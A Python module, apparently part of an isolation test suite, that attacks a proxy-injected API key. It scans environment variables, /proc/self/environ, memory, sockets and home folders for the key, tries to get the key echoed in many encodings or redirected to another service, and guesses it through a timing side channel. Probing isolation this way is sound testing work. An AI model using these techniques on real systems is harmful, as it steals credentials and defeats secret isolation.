"""Attacks on a key that the host injects into requests, and that the module itself never receives.

The key is given with each letter as the one after it, and memory is shifted likewise for the search: the search finds
only copies that another part has left.
"""

from __future__ import annotations

import base64
import contextlib
import itertools
import os
import selectors
import socket
import stat
import time
import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence
from functools import partial
from pathlib import Path
from urllib.parse import quote, unquote_to_bytes

from .memory import SHIFT, found, guessed, mapped
from .messages import connection
from .talk import Place, asked, connect, connect_to_proxy, must_reach, proxy_credentials, tunnel
from .way import RefusedActError, Way

_WEBSOCKET = (
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
)
_GUESSED = 16  # letters of a key
_GUESSES = 8  # of each sort: all of one after all of the others is then no accident (1 in 6,435)
_GAP_SECONDS = 0.02  # between them, as a clock and a busy machine may differ
_ECHO_SECONDS = 5.0  # for every echo to be there
_MAX_FILE = 4 << 20  # bytes
_MAX_FILES = 4000


def find_a_key(shifted: str, folders: Sequence[str], vault: Place | None, variable: str) -> Iterator[Way]:
    """Look for a key wherever a process can look, after a use of it if that is permitted."""
    wanted = shifted.encode()
    if vault is not None:
        _said(vault, _asking(vault, "/", os.environ[variable]))
    yield "in its environment", lambda: found(_environment(), wanted)
    yield "in its memory, as it is mapped", lambda: found(mapped(), wanted)
    yield "in its memory, around what it knows", lambda: found(guessed(), wanted)
    yield "on its connection", lambda: found(_unread(), wanted)
    yield "in files", lambda: found(_files([*folders, *_own_folders()]), wanted)


def have_a_key_shown(shifted: str, vault: Place, variable: str, ways: Sequence[str]) -> Iterator[Way]:
    """Make the service that receives the key repeat it, in one way after another."""
    must_reach(*vault)
    for way in ways:
        yield f"in the {way}", partial(_shown, vault, variable, way, shifted.encode())
        yield f"in the {way}, by a page", partial(_shown, vault, variable, way, shifted.encode(), as_page=True)


def take_a_key_elsewhere(vault: Place, granted: Place, variable: str) -> Iterator[Way]:
    """Have the key injected at a place it is not for, or where others can read it later."""
    must_reach(*granted)
    key = os.environ[variable]
    yield "another service", lambda: _said(granted, _asking(granted, "/", key))
    yield "another service, by a tunnel", lambda: _said(granted, _asking(granted, "/", key), by_tunnel=True)
    yield "another service, as a page", lambda: _paged(_as_page(granted, "/", key))
    yield "another service's name", lambda: _said(vault, _asking(granted, "/", key))
    yield "another service's page", lambda: _said(vault, _as_page(granted, "/", key))
    yield "after a request of its own", lambda: _paged(_as_page(vault, "/", key), _as_page(granted, "/", key))
    yield "in its path", lambda: _said(vault, _asking(vault, f"/{key}", ""))
    body = f"key={key}".encode()
    head = f"POST / HTTP/1.1\r\nHost: {{}}:{{}}\r\nContent-Length: {len(body)}\r\n\r\n".format(*vault).encode()
    yield "in its body", lambda: _said(vault, head + body)


def guess_a_key_by_the_time_of_its_echo(
    shifted: str, vault: Place, variable: str, kinds: Sequence[str]
) -> Iterator[Way]:
    """Make the service that receives the key repeat guesses at its beginning, and observe which arrive later."""
    must_reach(*vault)
    beginning = "".join(chr(ord(letter) - 1) for letter in shifted[:_GUESSED])
    for kind in kinds:
        yield f"in a slow answer: {kind}", partial(_compare_delays, vault, os.environ[variable], kind, beginning)


# -- searching ----------------------------------------------------------------------------------


def _environment() -> Iterator[bytes]:
    yield from (value.encode(errors="surrogateescape") for value in os.environ.values())
    with contextlib.suppress(OSError):
        yield Path("/proc/self/environ").read_bytes()


def _unread() -> Iterator[bytes]:
    """Yield data sent to the module's runtime that it has not read yet."""
    with connection() as line, contextlib.suppress(BlockingIOError):
        yield line.recv(_MAX_FILE, socket.MSG_PEEK | socket.MSG_DONTWAIT)


def _own_folders() -> Iterator[str]:
    yield from (os.environ[name] for name in ("HOME", "TMPDIR") if os.environ.get(name))
    if "SSL_CERT_FILE" in os.environ:
        yield os.path.dirname(os.environ["SSL_CERT_FILE"])


def _files(folders: Sequence[str]) -> Iterator[bytes]:
    """Yield the content of readable files below folders, one after another, with a gap."""
    paths = (os.path.join(top, name) for folder in folders for top, _, names in os.walk(folder) for name in names)
    for path in itertools.islice(paths, _MAX_FILES):
        with contextlib.suppress(OSError):
            if stat.S_ISREG(os.stat(path).st_mode):
                with open(path, "rb") as file:
                    yield file.read(_MAX_FILE) + b"\0"


# -- asking -------------------------------------------------------------------------------------


def _asking(place: Place, target: str, key: str) -> bytes:
    host, port = place
    return f"GET {target} HTTP/1.1\r\nHost: {host}:{port}\r\nAuthorization: Bearer {key}\r\n\r\n".encode()


def _as_page(place: Place, path: str, key: str) -> bytes:
    host, port = place
    return _asking(place, f"http://{host}:{port}{path}", key).removesuffix(b"\r\n") + proxy_credentials() + b"\r\n"


def _said(place: Place, request: bytes, *, by_tunnel: bool = False) -> bytes:
    """Return the answer on a connection to a place, directly where possible."""
    with tunnel(*place) if by_tunnel else _line(place) as line:
        return asked(line, request)


def _paged(*requests: bytes) -> bytes:
    """Return the answer to the last of several requests to the proxy, on one connection."""
    with connect_to_proxy() as line:
        answers = [asked(line, request) for request in requests]
    return answers[-1]


def _shown(vault: Place, variable: str, way: str, wanted: bytes, *, as_page: bool = False) -> str:
    key = os.environ[variable]
    path = f"/sent/{way}" + (f"?key={quote(key, safe='-_')}" if way == "target" else "")
    if way == "parts":
        answer = b"".join(
            _body(_answer_about(vault, path, key, as_page, f"Range: bytes={part}")) for part in ("0-9", "10-99")
        )
    else:
        answer = _answer_about(vault, path, key, as_page, _WEBSOCKET if way == "websocket" else "")
    read = _READERS.get(way, bytes)(answer)
    if wanted in read.translate(SHIFT):
        return "the key"
    if key.encode() in read:
        raise RuntimeError("the key was not put in")
    raise RefusedActError("ENOENT", f"it is not in {read[-60:]!r}")


def _answer_about(vault: Place, path: str, key: str, as_page: bool, header: str) -> bytes:
    request = _as_page(vault, path, key) if as_page else _asking(vault, path, key)
    if header:
        request = request.removesuffix(b"\r\n") + header.encode() + b"\r\n\r\n"
    if as_page:
        return _paged(request)
    return _said(vault, request)


def _compare_delays(vault: Place, key: str, kind: str, beginning: str) -> str:
    """Return how much later the right guesses are than the wrong ones, or the reverse.

    Raises:
        RefusedError: the times show no difference.
    """
    other = "!" * (len(beginning) // 2)
    guesses = [beginning, beginning[: -len(other)] + other] * _GUESSES
    delays = _delays(vault, key, kind, [guess.encode() for guess in guesses])
    right, wrong = delays[::2], delays[1::2]
    gap = max(min(right) - max(wrong), min(wrong) - max(right))
    if gap > _GAP_SECONDS:
        return f"{gap * 1000:.0f} ms between right guesses and wrong ones"
    raise RefusedActError("ENOENT", f"right ones took {_range(right)}, wrong ones {_range(wrong)}")


def _range(delays: Sequence[float]) -> str:
    return f"{min(delays) * 1000:.0f} to {max(delays) * 1000:.0f} ms"


def _delays(vault: Place, key: str, kind: str, guesses: Sequence[bytes]) -> list[float]:
    """Return how long each guess takes to come back; all are under way at the same time."""
    asked_at, delays, heard = [0.0] * len(guesses), [0.0] * len(guesses), [b""] * len(guesses)
    with contextlib.ExitStack() as stack, selectors.DefaultSelector() as selector:
        for index, guess in enumerate(guesses):
            line = stack.enter_context(_line(vault))
            request = _asking(vault, f"/slowly/{kind}/{guess.hex()}", key)
            if kind == "websocket":
                request = request.removesuffix(b"\r\n") + _WEBSOCKET.encode() + b"\r\n\r\n"
            selector.register(line, selectors.EVENT_READ, index)
            asked_at[index] = time.monotonic()
            line.sendall(request)
        deadline = time.monotonic() + _ECHO_SECONDS
        while selector.get_map() and time.monotonic() < deadline:
            for ready, _ in selector.select(deadline - time.monotonic()):
                index, line = ready.data, ready.fileobj
                received = line.recv(1 << 16)
                heard[index] += received
                if guesses[index] in heard[index]:
                    delays[index] = time.monotonic() - asked_at[index]
                if not received or delays[index]:
                    selector.unregister(line)
    if not all(delays):
        raise RuntimeError(f"no echo of a guess, but {heard[delays.index(0.0)][-60:]!r}")
    return delays


def _line(place: Place) -> socket.socket:
    """Return a connection to a place, directly where possible."""
    try:
        return connect(*place)
    except OSError:
        return tunnel(*place)


def _body(answer: bytes) -> bytes:
    return answer.partition(b"\r\n\r\n")[2]


def _joined(answer: bytes) -> bytes:
    return b"".join(_body(answer).split(b"\r\n")[1::2])


_READERS: Mapping[str, Callable[[bytes], bytes]] = {
    "chunks": _joined,
    "gzip": lambda answer: zlib.decompress(_body(answer), wbits=31),
    "json": lambda answer: answer.replace(b"\\/", b"/"),
    "json-in-json": lambda answer: answer.replace(b"\\\\/", b"/"),
    "url": unquote_to_bytes,
    "target": unquote_to_bytes,
    "base64": lambda answer: base64.b64decode(_body(answer)),
    "upper": bytes.lower,
    "backwards": lambda answer: answer[::-1],
    "hex": lambda answer: bytes.fromhex(_body(answer).decode()),
    "spaced": lambda answer: _body(answer).replace(b" ", b""),
}
